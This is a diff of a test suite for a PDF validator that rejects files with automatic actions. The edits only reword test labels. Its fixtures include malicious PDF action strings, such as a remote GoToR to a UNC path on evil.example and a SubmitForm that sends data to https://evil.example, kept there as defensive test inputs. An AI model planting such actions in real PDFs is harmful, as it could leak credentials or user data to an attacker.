@@ -32,7 +32,7 @@ describe('a PDF that does something by itself is refused:', () => {
     ['another document', open('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>')],
     ['what it sends', open('<< /S /SubmitForm /F (https://evil.example) >>')],
     ['an action without a kind', open('<< >>')],
-    ['an action that is said twice', open('<< /S /GoTo /S /URI /D [2 0 R /Fit] >>')],
+    ['an action that is written twice', open('<< /S /GoTo /S /URI /D [2 0 R /Fit] >>')],
     ['an action behind a view', open('<< /S /GoTo /D [2 0 R /Fit] /Next 7 0 R >>')],
     ['an action elsewhere', buildPdf([catalog('/OpenAction 2 0 R'), '<< /S /URI /URI (x) >>'])],
     ['an action that is not there', open('9 0 R')],
@@ -60,7 +60,7 @@ describe('a PDF that does something by itself is refused:', () => {
     ['without spaces', buildPdf(['<</OpenAction<</S/URI/URI(x)>>>>'])],
     ['with a remark between', buildPdf(['<</OpenAction%x\n<</S%y\n/URI>>>>'])],
     [
-      'behind a parenthesis that nobody closes',
+      'behind a parenthesis that is never closed',
       buildPdf([catalog(`/OpenAction ${script}`)], { before: '(' }),
     ],
     ['behind a string in a string', buildPdf([`<< /A (\\() /B ((x)) /OpenAction ${script} >>`])],
@@ -83,7 +83,7 @@ describe('a PDF that does something by itself is refused:', () => {
     ['in a packed object', buildPacked({ 3: catalog(`/OpenAction ${script}`) })],
     ['behind others', buildPacked({ 3: page, 4: '(text)', 5: '<< /AA << /O 9 0 R >> >>' })],
     [
-      'behind a parenthesis that nobody closes',
+      'behind a parenthesis that is never closed',
       buildPacked({ 3: '(', 4: catalog(`/OpenAction ${script}`) }),
     ],
     ['unpacked', buildPacked({ 3: script }, { more: '/Type /ObjStm', bytes: (plain) => plain })],
@@ -182,7 +182,7 @@ describe('a form of XFA', () => {
     ['in UTF-16', [form, stream([...'<script>'].join('\0'))], 'file.active'],
     ['as one stream', [catalog('/AcroForm << /XFA 2 0 R >>'), stream(scripted)], 'file.active'],
     [
-      'packed as nobody packs',
+      'packed by an unknown method',
       [form, stream(plain, { more: '/Filter /LZWDecode' })],
       'file.unreadable',
     ],
@@ -215,7 +215,7 @@ describe('a PDF as people make them is taken:', () => {
       buildPdf([catalog('/OpenAction 3 0 R'), page, '<< /S /GoTo /D [ 2 0 R /Fit ] >>']),
     ],
     [
-      'one whose place is packed',
+      'one whose position is packed',
       buildPdf([catalog('/OpenAction 5 0 R'), buildPacked({ 5: '[ 2 0 R /Fit ]' })]),
     ],
     ['one that opens nothing', open('null')],
